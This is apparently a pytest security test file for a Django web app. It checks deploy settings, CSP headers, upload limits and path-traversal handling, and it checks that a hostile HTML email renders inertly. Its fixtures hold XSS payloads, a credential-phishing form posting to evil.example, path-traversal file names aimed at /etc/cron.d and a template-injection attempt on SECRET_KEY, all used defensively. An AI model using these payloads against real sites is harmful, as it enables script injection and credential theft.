"""What an installation must withstand: settings, policies, loads, and mail that was written to do harm."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from pytest_django import Settings

from comity.book.reading import read_folders
from comity.home import create_book
from comity.sources import Settings as Reading
from comity.web import proofs, weight
from comity.web.days import today
from comity.web.models.jobs import Job
from comity.web.models.people import User
from comity.web.models.verdicts import Refresh, Verdict
from tests.web.addresses import addresses, places_of
from tests.web.conftest import SignIn

pytestmark = pytest.mark.django_db
ONE = "ferrandauto.example"
RUNS = frozenset({"script", "style", "iframe", "object", "embed", "base", "frame", "applet"})


class Tags(HTMLParser):
    """The tags of a page with what stands in them, as a browser would take them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def wrong(self) -> list[str]:
        """What runs or is loaded without being a file of ours."""
        said = []
        for tag, told in self.found:
            ours = tag == "script" and told.get("src", "").startswith("/static/")
            said += [f"<{tag}>"] if tag in RUNS and not ours else []
            said += [f"{tag} {name}" for name in told if name.startswith("on") or name in ("style", "srcdoc")]
            loads = [told.get(name, "") for name in ("src", "href", "action", "data", "poster", "srcset", "background")]
            said += [f"{tag} {to}" for to in loads if re.match(r"\s*(?:[a-z]+:)?//|\s*javascript:", to, re.I)]
        return said


def shut(policy: str) -> bool:
    """Whether a policy lets nothing run or load but files of ours."""
    told = {words[0]: words[1:] for part in policy.split(";") if (words := part.split())}
    values = {v for words in told.values() for v in words}
    return told.get("default-src") == ["'none'"] and values <= {"'none'", "'self'"} and "frame-ancestors" in told


def test_django_finds_nothing_to_say_of_an_installation_behind_tls(tmp_path: Path) -> None:
    told = {"COMITY_HOME": str(tmp_path), "COMITY_HTTPS": "1", "COMITY_HOSTS": "comity.firm.example",
            "DJANGO_SETTINGS_MODULE": "comity.web.settings"}  # fmt: skip
    call = [sys.executable, "-m", "django", "check", "--deploy", "--fail-level", "INFO"]
    done = subprocess.run(call, env={**os.environ, **told}, capture_output=True, text=True, check=False)
    assert (done.returncode, done.stdout) == (0, "System check identified no issues (0 silenced).\n"), done.stderr


def test_every_answer_carries_the_policy_and_no_page_runs_or_loads_what_is_not_ours(
    home: Path, sign_in: SignIn
) -> None:
    ann, seen = sign_in("ann"), 0
    for address in addresses():
        url = address.filled(places_of(ONE, home)[0])
        for answer in (ann.get(url, {"file": "mail/all.mbox"}), Client().get(url)):
            assert shut(answer["Content-Security-Policy"]), url
            assert answer["X-Content-Type-Options"] == "nosniff"
            if answer["Content-Type"].startswith("text/html"):
                assert Tags(answer.content.decode()).wrong() == [], url
                seen += 1
    assert seen > 40


def test_faults_and_files_of_ours_carry_it_too(sign_in: SignIn, monkeypatch: pytest.MonkeyPatch) -> None:
    ann = sign_in("ann")
    for answer in (ann.get("/none/"), ann.get("/static/comity/comity.css"), ann.get("/?q=%00"),
                   ann.get("/", HTTP_HOST="evil.example"), ann.get("/clients"), Client().post("/sign-in/"),
                   Client(enforce_csrf_checks=True).post("/sign-in/")):  # fmt: skip
        assert shut(answer["Content-Security-Policy"]), answer
    monkeypatch.setattr("comity.web.pages.week.views.verdicts", None)
    ann.raise_request_exception = False
    broken = ann.get("/")
    assert broken.status_code == 500
    assert shut(broken["Content-Security-Policy"])
    assert b"Traceback" not in broken.content


def test_more_than_somebody_may_send_is_refused_before_it_is_read(
    sign_in: SignIn, own_home: Path, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    ann = sign_in("ann")
    for door in ("/read/", "/sign-in/"):
        assert Client().post(door, {"files": SimpleUploadedFile("a.csv", b"x" * 300_000)}).status_code == 413
    assert ann.get("/", CONTENT_LENGTH="-1").status_code == 413
    monkeypatch.setattr(weight, "MOST_BYTES", 300_000)
    answer = ann.post("/read/", {"files": SimpleUploadedFile("a.csv", b"x" * 300_001)})
    assert (answer.status_code, b"Drop a smaller part" in answer.content) == (413, True)
    settings.DATA_UPLOAD_MAX_NUMBER_FILES = 2
    assert ann.post("/read/", {"files": [SimpleUploadedFile(f"{n}.csv", b"x") for n in range(3)]}).status_code == 400
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1_000
    assert ann.post("/read/", {"folder": "x" * 2_000}).status_code == 400
    assert not list((own_home / "inbox").glob("*"))


def test_what_is_dropped_with_tricks_in_its_name_stays_in_the_inbox(sign_in: SignIn, own_home: Path) -> None:
    before = {p for p in own_home.rglob("*") if "inbox" not in p.parts}
    names = ["../../book/firm/x.csv", "/etc/cron.d/x", "C:\\secret", "<img src=x onerror=alert(1)>.csv", "secret"]
    files = [SimpleUploadedFile("x.csv", b"a,b\n1,2\n") for _ in names]
    answer = sign_in("ann").post("/read/", {"files": files, "paths": names})
    assert answer.status_code == 302
    assert {p for p in own_home.rglob("*") if "inbox" not in p.parts} == before
    folder = Path(Job.objects.latest("pk").words["folder"])
    assert folder.parent == own_home / "inbox"
    laid = [p for p in folder.rglob("*") if p.is_file()]
    assert len(laid) == len(names)
    assert all(p.resolve().is_relative_to(folder.resolve()) for p in laid)
    assert not Path("/etc/cron.d/x").exists()


EVIL = """\
Message-ID: <evil@ferrandauto.example>
In-Reply-To: {ref}
References: {ref}
From: "<b onmouseover=alert(1)>Eve" <{sender}>
To: beth@larkfieldtalent.example
Date: {day} 23:00:00 +0000
Subject: <script>alert(2)</script>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/html; charset=utf-8

<html><head><style>@import url(//evil.example/a.css)</style><base href="https://evil.example/"></head>
<body onload="alert(3)" background="https://evil.example/b.png">
<script src="https://evil.example/a.js"></script><p>Dear Beth, the marker zanzibarine is here.</p>
<img src="https://evil.example/pixel.gif" onerror="alert(4)"><iframe srcdoc="<script>alert(5)</script>"></iframe>
<a href="javascript:alert(6)">a link</a> <form action="https://evil.example/"><input name=password></form>
<p>&lt;script&gt;alert(7)&lt;/script&gt; &lt;img src=x onerror=alert(8)&gt; {{{{ settings.SECRET_KEY }}}}</p>
<svg><script>alert(9)</script></svg><object data="https://evil.example/x"></object></body></html>
--b
Content-Type: application/pdf
Content-Disposition: attachment; filename="\\"><svg onload=alert(10)>.pdf"

x
--b--
"""


def test_a_mail_in_html_that_was_written_to_do_harm_is_shown_as_its_words(
    sign_in: SignIn, own_home: Path, tmp_path: Path
) -> None:
    verdict = Verdict.objects.get(refresh=Refresh.current(), account=ONE)
    owner = User.objects.get(role="owner")
    proof = next(p for p in proofs.every(owner, verdict, own_home) if p.kind == "message")
    book = create_book(own_home)
    row = book.find("messages", "ref", [proof.ref]).to_pylist()[0]
    (tmp_path / "exports").mkdir()
    mail = EVIL.format(ref=proof.ref, sender=row["sender"], day=f"{row['sent_on']:%d %b %Y}")
    (tmp_path / "exports" / "evil.eml").write_text(mail, "utf-8")
    assert [c.kept for c in read_folders([tmp_path / "exports"], book, today=today(), settings=Reading())] == [1]
    key = proofs.key(proof.kind, proof.ref, proof.quote)
    page = sign_in("ann").get(f"/clients/{ONE}/proof/{key}/").content.decode()
    assert "marker zanzibarine" in page
    assert "&lt;script&gt;alert(7)&lt;/script&gt;" in page
    assert Tags(page).wrong() == []
    assert not [t for t, told in Tags(page).found if t in ("svg", "img") and "/static/" not in str(told)]
    assert "{{ settings.SECRET_KEY }}" in page


@pytest.mark.parametrize(
    "address",
    [f"timeline/?year={'%C2%B2' * 4}", f"notes/?edit={'9' * 5000}", "notes/?edit=%C2%B2", "timeline/?year=-999"],
)
def test_a_number_that_is_none_is_passed_over(address: str, sign_in: SignIn) -> None:
    assert sign_in("ann").get(f"/clients/{ONE}/{address}").status_code == 200


@pytest.mark.parametrize("folder", ["~nobody-of-this-name/x", "x" * 5000])
def test_a_folder_that_cannot_be_is_told_in_one_line(folder: str, sign_in: SignIn) -> None:
    assert "there is no such folder" in sign_in("ann").post("/read/", {"folder": folder}).content.decode()
